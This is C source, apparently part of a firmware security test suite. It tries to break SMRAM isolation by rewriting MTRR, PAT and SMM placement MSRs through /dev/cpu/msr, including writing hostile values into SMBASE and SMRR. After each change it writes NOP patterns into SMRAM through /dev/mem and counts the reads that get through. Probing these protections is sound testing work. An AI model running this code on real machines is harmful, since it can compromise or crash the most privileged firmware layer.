/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Registers of the processor that decide how SMRAM is reached: every memory type over it, by MTRR and by
 * PAT; and those by which real processors place and open it. After each, words of SMRAM are read, and
 * written. Prints how many were not all ones.
 */
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAT           0x277u
#define MTRR_BASE     0x200u
#define MTRR_MASK     0x201u
#define MTRR_DEFAULT  0x2ffu
#define MTRR_ENABLE   0x800u
#define MTRR_VALID    0x800u
#define PHYSICAL_BITS UINT64_C(0xffffffffff)
#define STRIDE        509u /* words between those that are looked at */

static int processor;
static volatile uint32_t *smram;
static unsigned read_through;

static uint64_t msr_read(uint32_t number)
{
    uint64_t value = 0;

    if (pread(processor, &value, sizeof(value), number) != sizeof(value))
        return 0;
    return value;
}

/* A processor that has not got the register refuses: fine as well. */
static void msr_write(uint32_t number, uint64_t value)
{
    if (pwrite(processor, &value, sizeof(value), number) < 0)
        return;
}

static void smram_try(void)
{
    for (uint64_t word = 0; word < smram_size / 4; word += STRIDE) {
        smram[word] = 0x90909090;
        read_through += smram[word] != UINT32_MAX;
    }
    outb(MUSTER_COMMAND_NOOP, APM_CNT);
}

static void memory_types_try(void)
{
    static const uint32_t numbers[] = {MTRR_DEFAULT, MTRR_BASE, MTRR_MASK, PAT};
    static const uint8_t types[] = {0, 1, 4, 5, 6};
    uint64_t before[4];

    for (unsigned index = 0; index < 4; index++)
        before[index] = msr_read(numbers[index]);
    for (unsigned index = 0; index < sizeof(types); index++) {
        msr_write(MTRR_BASE, smram_base | types[index]);
        msr_write(MTRR_MASK, (PHYSICAL_BITS & ~(smram_size - 1)) | MTRR_VALID);
        msr_write(MTRR_DEFAULT, MTRR_ENABLE | types[index]);
        msr_write(PAT, types[index] * UINT64_C(0x0101010101010101));
        smram_try();
    }
    for (unsigned index = 0; index < 4; index++)
        msr_write(numbers[index], before[index]);
}

/* Intel's SMBASE, SMM_MONITOR_CTL, SMRR and SMM_FEATURE_CONTROL; AMD's SMM_BASE, SMMADDR, SMMMASK. */
static void placement_try(void)
{
    static const uint32_t numbers[] = {0x9e,  0x9b,       0x1f2,      0x1f3,
                                       0x4e0, 0xc0010111, 0xc0010112, 0xc0010113};

    for (unsigned index = 0; index < sizeof(numbers) / sizeof(numbers[0]); index++) {
        uint64_t before = msr_read(numbers[index]);

        for (unsigned which = 0; which < HOSTILE_COUNT; which++) {
            msr_write(numbers[index], hostile(which));
            outb(MUSTER_COMMAND_NOOP, APM_CNT);
        }
        smram_try();
        msr_write(numbers[index], before);
    }
}

int attack_msr(char **words)
{
    int memory = open("/dev/mem", O_RDWR);
    char name[32];

    smram =
        mmap(NULL, smram_size, PROT_READ | PROT_WRITE, MAP_SHARED, memory, (off_t)smram_base);
    if (smram == MAP_FAILED)
        fail("/dev/mem");
    for (unsigned index = 0; index < window_header()->processors; index++) {
        snprintf(name, sizeof(name), "/dev/cpu/%u/msr", index);
        processor = open(name, O_RDWR);
        if (processor < 0)
            fail(name);
        processor_take(index);
        memory_types_try();
        placement_try();
        close(processor);
    }
    (void)words;
    printf("%u\n", read_through);
    return 0;
}
